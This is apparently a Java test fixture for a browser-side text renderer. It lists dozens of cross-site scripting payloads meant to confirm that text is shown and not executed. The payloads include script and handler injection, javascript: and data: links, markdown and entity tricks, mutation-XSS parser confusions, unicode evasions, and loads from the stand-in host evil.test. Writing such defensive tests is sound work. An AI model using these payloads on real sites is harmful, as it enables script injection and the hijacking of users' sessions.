package io.parley.browser;

import java.util.List;
import java.util.stream.Stream;

/**
 * A text that would run as a script, load from elsewhere or lead astray, were it not only shown.
 *
 * @param text as it is sent; what runs in it sets {@code __xss}
 * @param shown a part that the reader sees
 */
record Payload(String text, String shown) {
    /** Shown as it is. */
    private static Payload of(String text) {
        return new Payload(text, text);
    }

    static List<Payload> all() {
        return Stream.of(tags(), handlers(), links(), markdown(), entities(), templates(), mutations(), unicode())
                .flatMap(List::stream)
                .toList();
    }

    private static List<Payload> tags() {
        return List.of(
                of("<script>window.__xss=1</script>"),
                of("<SCRIPT SRC=http://evil.test/xss.js></SCRIPT>"),
                of("</parley-text></article><script>__xss=2</script>"),
                of("<scr<script>ipt>__xss=3</scr</script>ipt>"),
                of("<iframe srcdoc=\"<script>parent.__xss=4</script>\"></iframe>"),
                of("<iframe src=javascript:parent.__xss=5></iframe>"),
                of("<object data=javascript:__xss=6></object>"),
                of("<embed src=http://evil.test/x.swf>"),
                of("<base href=http://evil.test/>"),
                of("<meta http-equiv=refresh content=\"0;url=http://evil.test/\">"),
                of("<link rel=stylesheet href=http://evil.test/x.css>"),
                of("<style>@import 'http://evil.test/x.css';</style>"),
                of("<form action=http://evil.test/><input type=submit formaction=javascript:__xss=7></form>"),
                of("<template><script>__xss=8</script></template>"));
    }

    private static List<Payload> handlers() {
        return List.of(
                of("<img src=x onerror=__xss=10>"),
                of("<img src=http://evil.test/pixel.png>"),
                of("<svg onload=__xss=11>"),
                of("<svg><animate onbegin=__xss=12 attributeName=x dur=1s>"),
                of("<svg><a xlink:href=javascript:__xss=13><text y=20>press</text></a></svg>"),
                of(
                        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'></svg>#x\"></svg>"),
                of("<body onload=__xss=14>"),
                of("<details open ontoggle=__xss=15>more</details>"),
                of("<input autofocus onfocus=__xss=16>"),
                of("<video><source onerror=__xss=17></video>"),
                of("<marquee onstart=__xss=18>by</marquee>"),
                of("<parley-text onclick=__xss=19>press</parley-text>"));
    }

    private static List<Payload> links() {
        return List.of(
                new Payload("[press 20](javascript:__xss=20)", "press 20"),
                new Payload("[press 21](JaVaScRiPt:__xss=21)", "press 21"),
                new Payload("[press 22]( javascript:__xss=22 )", "press 22"),
                new Payload("[press 23](javascript&colon;__xss=23)", "press 23"),
                new Payload("[press 24](&#x6A;avascript:__xss=24)", "press 24"),
                new Payload("[press 25](java\tscript:__xss=25)", "press 25"),
                new Payload("[press 26](<java\u0001script:__xss=26>)", "press 26"),
                new Payload("[press 27](vbscript:msgbox(27))", "press 27"),
                new Payload("[press 28](data:text/html,<script>opener.__xss=28</script>)", "press 28"),
                new Payload("[press 29](data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+)", "press 29"),
                new Payload("[press 30](file:///etc/passwd)", "press 30"),
                new Payload("[press 31](blob:http://evil.test/1)", "press 31"),
                new Payload("<javascript:__xss=32>", "javascript:__xss=32"),
                new Payload("<http://a.test/\"onmouseover=\"__xss=33>", "onmouseover="));
    }

    private static List<Payload> markdown() {
        return List.of(
                new Payload("![press 40](javascript:__xss=40)", "press 40"),
                new Payload("![press 41](http://evil.test/pixel.png)", "press 41"),
                new Payload("![press 42](x \"y\" onerror=__xss=42)", "press 42"),
                new Payload("[press 43](http://a.test \"title\\\" onmouseover=\\\"__xss=43\")", "press 43"),
                new Payload("[press 44][a]\n\n[a]: javascript:__xss=44", "press 44"),
                new Payload("![press 45][b]\n\n[b]: http://evil.test/pixel.png", "press 45"),
                new Payload("[![press 46](http://evil.test/p.png)](javascript:__xss=46)", "press 46"),
                new Payload("```\"><img/src=x/onerror=__xss=47>\ncode 47\n```", "code 47"),
                new Payload("``` <script>__xss=48</script>\ncode 48\n```", "code 48"),
                new Payload("`<img src=x onerror=__xss=49>`", "<img src=x onerror=__xss=49>"),
                new Payload("| a <img src=x onerror=__xss=50> |\n|:--:|\n| cell 50 |", "cell 50"),
                new Payload("> <img src=x onerror=__xss=51>\n> quoted 51", "quoted 51"),
                new Payload("<!-- --><img src=x onerror=__xss=52>", "__xss=52"));
    }

    private static List<Payload> entities() {
        return List.of(
                new Payload("&lt;img src=x onerror=__xss=60&gt;", "<img src=x onerror=__xss=60>"),
                new Payload("&#60;script&#62;__xss=61&#60;/script&#62;", "<script>__xss=61</script>"),
                new Payload("&amp;lt;script&amp;gt;__xss=62", "&lt;script&gt;__xss=62"),
                of("\\u003cscript\\u003e__xss=63\\u003c/script\\u003e"),
                of("%3Cscript%3E__xss=64%3C/script%3E"));
    }

    private static List<Payload> templates() {
        return List.of(
                of("${window.__xss=70}"),
                of("{{constructor.constructor('__xss=71')()}}"),
                of("<!--?lit$1234567890$--><img src=x onerror=__xss=72>"),
                of("{\"type\":\"message\",\"text\":\"<img src=x onerror=__xss=73>\"}"),
                of("\"><img src=x onerror=__xss=74>"),
                of("';window.__xss=75;//"),
                of("javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/"));
    }

    /** What changes when it is parsed a second time. */
    private static List<Payload> mutations() {
        return List.of(
                of("<math><mtext><table><mglyph><style><img src=x onerror=__xss=80>"),
                of("<noscript><p title=\"</noscript><img src=x onerror=__xss=81>\">"),
                of("<svg></p><style><a id=\"</style><img src=1 onerror=__xss=82>\">"),
                of("<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss=83>"),
                of("<textarea><img title=\"</textarea><img src onerror=__xss=84>\">"),
                of("<a name=getElementById><img id=__xss name=body>"));
    }

    private static List<Payload> unicode() {
        return List.of(
                of("\uFF1Cscript\uFF1E__xss=90\uFF1C/script\uFF1E"),
                new Payload("<scr\u0000ipt>__xss=91</script>", "__xss=91"),
                new Payload("<img\u2028src=x\u2029onerror=__xss=92>", "__xss=92"),
                new Payload("[press 93](java\u200Bscript:__xss=93)", "press 93"),
                new Payload("[press 94](\u0130javascript:__xss=94)", "press 94"),
                of("\u202E>tpircs/<39=ssx__>tpircs<\u202C"),
                of("\u00BCscript\u00BE__xss=95\u00BC/script\u00BE"),
                new Payload("\uFEFF<img src=x onerror=__xss=96>", "__xss=96"));
    }
}
